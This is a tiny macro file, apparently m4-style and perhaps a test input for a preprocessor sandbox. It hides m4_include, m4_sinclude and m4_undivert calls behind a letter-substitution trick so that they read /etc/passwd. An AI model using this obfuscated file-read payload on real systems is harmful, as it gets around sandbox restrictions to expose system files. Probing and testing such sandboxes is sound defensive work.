BASED_ON(base)
DEFINE(XOR, <<
LETTERS(<<Z4_include(/etc/passwd)>>, Z, m)
LETTERS(<<Z4_sinclude(/etc/passwd)>>, Z, m)
LETTERS(<<Z4_undivert(/etc/passwd)>>, Z, m)
xor $1, $2, $3
>>)
